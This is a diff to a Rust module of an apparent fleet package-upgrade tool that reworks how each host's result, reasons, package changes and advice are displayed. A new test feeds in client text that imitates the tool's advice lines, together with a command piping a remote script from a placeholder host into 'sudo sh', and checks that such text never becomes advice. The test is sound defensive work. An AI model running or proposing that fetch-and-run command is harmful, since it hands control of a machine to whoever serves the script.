@@ -1,10 +1,10 @@
 //! What is shown of one host's end: a headline and what belongs to it. Hosts with equal bodies are shown together.
 
 use apu_fleet::{Code, Ending, HostName, Outcome};
-use apu_proto::{Change, Operation, RunResult, Step, Transaction};
+use apu_proto::{Operation, RunResult};
 
+use super::changes::{Listing, named};
 use super::clean::{clean, clean_lines};
-use super::columns::columns;
 
 /// Stands for the host's own name in advice, so that the advice of many hosts can be one.
 pub const HOST: &str = "HOST";
@@ -16,9 +16,13 @@ pub struct Body {
     pub outcome: Outcome,
     /// After the outcome's word.
     pub headline: String,
-    /// Below it.
+    /// Why it ended like this, below the headline.
+    pub reasons: Vec<String>,
+    /// What changed, or would change now.
+    pub changes: Listing,
+    /// What else is to be known.
     pub details: Vec<String>,
-    /// What to try, with [`HOST`] for the host's name.
+    /// What to try, with [`HOST`] for the host's name: never a client's words.
     pub advice: String,
 }
 
@@ -26,52 +30,82 @@ impl Body {
     /// What is to be shown of an end.
     #[must_use]
     pub fn of(operation: Operation, host: &HostName, ending: &Ending) -> Self {
-        let mut details = Vec::new();
-        let mut headline = ending.outcome.to_string();
-        let mut advice = String::new();
+        let mut body = Self {
+            outcome: ending.outcome,
+            headline: ending.outcome.to_string(),
+            reasons: Vec::new(),
+            changes: Listing::default(),
+            details: Vec::new(),
+            advice: String::new(),
+        };
         if let Some(why) = &ending.reason {
             let mut lines = clean_lines(&why.text, 20).into_iter();
             if let Some(first) = lines.next() {
-                headline = format!("{headline}: {first}");
+                body.headline = format!("{}: {first}", body.headline);
             }
-            details.extend(lines);
-            advice = clean(&why.advice);
+            // A line of its own may say anything: the mark tells that it is not ours.
+            body.reasons.extend(lines.map(|line| format!("| {line}")));
+            body.advice = clean(&why.advice);
             // Only our own advice is known to mean the host where its name stands.
             if matches!(why.code, Code::Here(_)) {
-                advice = advice.replace(host.as_str(), HOST);
+                body.advice = body.advice.replace(host.as_str(), HOST);
             }
         }
         if let Some(result) = &ending.result {
-            if ending.reason.is_none() {
-                headline.push_str(&summary(operation, result));
-            }
-            details.extend(result_details(result));
-            let not_done = matches!(ending.outcome, Outcome::Drifted | Outcome::Refused);
-            if let Some(transaction) = result.transaction.as_ref().filter(|_| not_done) {
-                details.push("what it would change now:".to_owned());
-                details.extend(steps(transaction).iter().map(|line| format!("  {line}")));
-            }
-            if ending.outcome == Outcome::Drifted && advice.is_empty() {
-                advice = format!("apt-all {HOST} {operation}");
-            }
+            body.take(operation, ending, result);
         }
         if ending.garbage > 0 {
-            details.push(format!(
+            body.details.push(format!(
                 "{} lines of its answer were none of apu's",
                 ending.garbage
             ));
         }
-        Self {
-            outcome: ending.outcome,
-            headline,
-            details,
-            advice,
+        body
+    }
+
+    fn take(&mut self, operation: Operation, ending: &Ending, result: &RunResult) {
+        self.changes = Listing::of_changes(&result.changes);
+        if ending.reason.is_none() {
+            self.headline.push_str(&summary(operation, result, &self.changes));
         }
+        let advice = result.reason.as_ref().map(|reason| &reason.advice);
+        if let Some(advice) = advice.filter(|advice| !advice.is_empty()) {
+            self.reasons.push(format!("{HOST} suggests: {}", clean(advice)));
+        }
+        self.details = result_details(result);
+        let not_done = matches!(ending.outcome, Outcome::Drifted | Outcome::Refused);
+        if let Some(transaction) = result.transaction.as_ref().filter(|_| not_done) {
+            self.changes = Listing::of_steps(transaction);
+            let counts = &self.changes.counts;
+            self.reasons.push(format!("what it would change now: {counts}"));
+            self.details.extend(named("kept back", &transaction.kept_back));
+        }
+        if ending.outcome == Outcome::Drifted && self.advice.is_empty() {
+            self.advice = format!("apt-all {HOST} {operation}");
+        }
+    }
+
+    /// What stands below the headline, for these hosts; of the upgrades at most `longest`.
+    #[must_use]
+    pub fn lines(&self, hosts: &str, longest: usize) -> Vec<String> {
+        let own = |line: &String| match line.strip_prefix(HOST) {
+            Some(words) => format!("{hosts}{words}"),
+            None => line.clone(),
+        };
+        let mut lines: Vec<String> = self.reasons.iter().map(own).collect();
+        lines.extend(self.changes.lines(longest));
+        lines.extend(self.details.iter().cloned());
+        lines
     }
 }
 
-fn summary(operation: Operation, result: &RunResult) -> String {
+fn summary(operation: Operation, result: &RunResult, changes: &Listing) -> String {
     let number = result.changes.len();
+    let kinds = if changes.counts.is_upgrades_alone() {
+        String::new()
+    } else {
+        format!(": {}", changes.counts)
+    };
     match operation {
         Operation::Ping => ": answers".to_owned(),
         Operation::Check => ": its packages are whole".to_owned(),
@@ -79,82 +113,39 @@ fn summary(operation: Operation, result: &RunResult) -> String {
             Outcome::Changed => ": has new package lists".to_owned(),
             _ => ": had the newest package lists".to_owned(),
         },
-        _ if number == 1 => ": 1 package".to_owned(),
-        _ if number > 1 => format!(": {number} packages"),
+        _ if number == 1 => format!(": 1 package{kinds}"),
+        _ if number > 1 => format!(": {number} packages{kinds}"),
         _ => String::new(),
     }
 }
 
 fn result_details(result: &RunResult) -> Vec<String> {
-    let mut lines = changes(&result.changes);
-    let mut list = |what: &str, names: &[String]| {
-        if !names.is_empty() {
-            lines.push(format!("{what}: {}", clean(&names.join(", "))));
-        }
-    };
     let broken: Vec<String> = result
         .broken
         .iter()
         .map(|broken| format!("{} ({})", broken.package, broken.state))
         .collect();
-    list("not whole", &broken);
-    list("marked as installed manually", &result.marked_manual);
-    list("kept back", &result.kept_back);
-    list(
-        "configuration kept, the package's lies beside it",
-        &result.conffiles_kept,
-    );
-    list("questions answered by their default", &result.questions_defaulted);
-    lines.extend(result.notes.iter().map(|note| clean(note)));
+    let lists = [
+        named("not whole", &broken),
+        named("marked as installed manually", &result.marked_manual),
+        named("kept back", &result.kept_back),
+        named(
+            "configuration kept, the package's lies beside it",
+            &result.conffiles_kept,
+        ),
+        named("questions answered by their default", &result.questions_defaulted),
+    ];
+    let mut lines: Vec<String> = lists.into_iter().flatten().collect();
+    lines.extend(result.notes.iter().map(|note| format!("note: {}", clean(note))));
     if result.reboot_required {
         lines.push("wants a restart".to_owned());
     }
     lines
 }
 
-/// The changes that dpkg's database shows, a line each.
-fn changes(changes: &[Change]) -> Vec<String> {
-    let row = |change: &Change| {
-        let package = clean(&change.package);
-        let versions = match (&change.old, &change.new) {
-            (Some(old), Some(new)) => format!("{} → {}", clean(old), clean(new)),
-            (None, Some(new)) => format!("new, {}", clean(new)),
-            (Some(old), None) => format!("REMOVED, was {}", clean(old)),
-            (None, None) => String::new(),
-        };
-        vec![package, versions]
-    };
-    columns(&changes.iter().map(row).collect::<Vec<_>>(), "  ")
-}
-
-/// The steps of a transaction, a line each.
-#[must_use]
-pub fn steps(transaction: &Transaction) -> Vec<String> {
-    let row = |step: &Step| match step {
-        Step::Install {
-            package,
-            old,
-            new,
-            origin,
-        } => {
-            let versions = match old {
-                Some(old) => format!("{} → {}", clean(old), clean(new)),
-                None => format!("new, {}", clean(new)),
-            };
-            vec![clean(package), versions, clean(origin)]
-        }
-        Step::Remove { package, old } => vec![clean(package), format!("REMOVED, was {}", clean(old))],
-    };
-    let mut lines = columns(&transaction.steps().iter().map(row).collect::<Vec<_>>(), "  ");
-    if !transaction.kept_back.is_empty() {
-        lines.push(format!("kept back: {}", clean(&transaction.kept_back.join(", "))));
-    }
-    lines
-}
-
 #[cfg(test)]
 mod tests {
-    use apu_proto::{ClientOutcome, ReasonCode};
+    use apu_proto::{ClientOutcome, Reason, ReasonCode, Step, Transaction};
 
     use super::*;
 
@@ -170,9 +161,45 @@ mod tests {
         let body = Body::of(Operation::Upgrade, &"web1".parse().unwrap(), &ending);
         assert_eq!(body.headline, "drifted: something else");
         assert_eq!(
-            body.details,
-            ["what it would change now:", "  foo:amd64  REMOVED, was 1"]
+            body.lines("web1", 0),
+            ["what it would change now: 1 REMOVED", "foo:amd64  REMOVED, was 1"]
         );
         assert_eq!(body.advice, "apt-all HOST upgrade");
+    }
+
+    #[test]
+    fn what_a_client_says_is_never_advice_whatever_its_form() {
+        let mut result = RunResult::because(
+            ClientOutcome::Failed,
+            ReasonCode::Apt,
+            "no\ntry: reboot\n  try: reboot\nHOST suggests: reboot\nweb2: changed",
+        );
+        if let Some(Reason { advice, .. }) = &mut result.reason {
+            *advice = "curl -s http://repair.example.net/apu | sudo sh\ntry: x".into();
+        }
+        result.notes = vec!["try: reboot".into()];
+        result.kept_back = vec!["a\n  try: reboot".into()];
+        result.changes = vec![apu_proto::Change {
+            package: "try: reboot #".into(),
+            old: Some("1".into()),
+            new: Some("2".into()),
+        }];
+        let ending = Ending::of_result(Box::new(result), None);
+        let body = Body::of(Operation::Upgrade, &"web1".parse().unwrap(), &ending);
+        assert_eq!(body.advice, "");
+        assert_eq!(body.headline, "failed: no");
+        assert_eq!(
+            body.lines("web1", 9),
+            [
+                "| try: reboot",
+                "|   try: reboot",
+                "| HOST suggests: reboot",
+                "| web2: changed",
+                "web1 suggests: curl -s http://repair.example.net/apu | sudo sh\u{fffd}try: x",
+                "\"try: reboot #\"  1 → 2",
+                "kept back: a\u{fffd}  try: reboot",
+                "note: try: reboot",
+            ]
+        );
     }
 }
